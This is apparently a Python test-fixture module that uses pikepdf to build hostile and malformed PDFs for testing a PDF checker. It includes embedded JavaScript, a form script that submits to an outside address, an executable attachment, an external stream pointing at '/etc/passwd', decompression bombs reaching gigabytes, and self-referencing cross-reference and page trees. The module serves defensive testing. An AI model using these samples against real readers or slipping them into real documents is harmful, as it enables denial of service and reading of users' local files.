"""PDF documents for tests, whole or wrong in one respect."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

Change = Callable[[Pdf], Any]


def packed_run(piece: bytes, times: int) -> bytes:
    """A piece again and again, packed, without packing it again and again."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(piece, check)
    return b"\x78\x9c" + block * times + b"\x03\x00" + check.to_bytes(4, "big")


def pdf_with(change: Change | None = None, *, pages: int = 1, **saving: Any) -> bytes:
    """A document of blank pages with one change."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change is not None:
        change(made)
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def on_opening(thing: Any) -> Change:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = thing

    return change


def annotation(**about: Any) -> Change:
    def change(made: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **about)
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return change


def attached(made: Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + b"\0" * 100


def attached_double(made: Pdf) -> None:
    """The data of a document beside it, as PDF/A-3 has it."""
    spec = pikepdf.AttachedFileSpec(made, b'{"a": 1}', filename="data.json", relationship=Name.Data)
    made.attachments["data.json"] = spec
    made.Root.AF = Array([spec.obj])


def script_by_name(made: Pdf) -> None:
    script = action("JavaScript", JS=String("app.alert(1)"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def form_of_xfa(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def field_with_script(made: Pdf) -> None:
    script = made.make_indirect(action("JavaScript", JS=made.make_stream(b"this.submitForm('http://x')")))
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def stream_bomb(made: Pdf) -> None:
    """300 MB in a stream."""
    made.pages[0].Contents = pikepdf.Stream(made, packed_run(bytes(2**20), 300), Filter=Name.FlateDecode)


def double_bomb(made: Pdf) -> None:
    """Packed twice: what the outer packing gives is small, the inner one's is not."""
    twice = zlib.compress(packed_run(bytes(2**20), 400))
    made.pages[0].Contents = pikepdf.Stream(made, twice, Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def many_objects(count: int) -> Change:
    def change(made: Pdf) -> None:
        made.Root.Heap = Array([made.make_indirect(Dictionary(A=number)) for number in range(count)])

    return change


def nested(depth: int) -> Change:
    def change(made: Pdf) -> None:
        deep: Any = Array([])
        for _ in range(depth):
            deep = Array([deep])
        made.Root.Deep = deep

    return change


def huge_picture(made: Pdf) -> None:
    picture = made.make_stream(b"\0")
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    picture.Width = picture.Height = 60_000
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 8
    made.pages[0].Resources = Dictionary(XObject=Dictionary(P=picture))


def outside_stream(made: Pdf) -> None:
    """Its bytes would be read from a file of whoever opens it."""
    stream = made.make_stream(b"x")
    stream.stream_dict.F = String("/etc/passwd")
    stream.stream_dict.Filter = Name.ASCIIHexDecode
    made.pages[0].Contents = stream


def object_stream_bomb() -> bytes:
    """An object stream of a few kilobytes that unpacks to more than a gigabyte of blanks."""
    body = packed_run(b" " * 2**20, 1200)
    parts = [b"%PDF-1.5\n"]
    parts.append(
        b"1 0 obj\n<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>\nstream\n" % len(body)
        + body
        + b"\nendstream\nendobj\n"
    )
    table = b"".join([b"\0\0\0\xff", b"\1\0\x09\0", b"\2\0\1\0", b"\2\0\1\1"])
    at = sum(map(len, parts))
    parts.append(
        b"4 0 obj\n<</Type/XRef/Size 4/W[1 2 1]/Root 2 0 R/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    )
    return b"".join(parts)


def endless_table() -> bytes:
    """Cross-reference tables that name each other as the one before."""
    head = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    )
    first = len(head)
    one = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 3/Root 1 0 R/Prev %010d>>\n"
    second = first + len(one % 0)
    return head + one % second + one % first + b"startxref\n%d\n%%%%EOF\n" % second


def endless_pages() -> bytes:
    """A tree of pages that contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Size 3/Root 1 0 R>>\n%%EOF\n"
    )
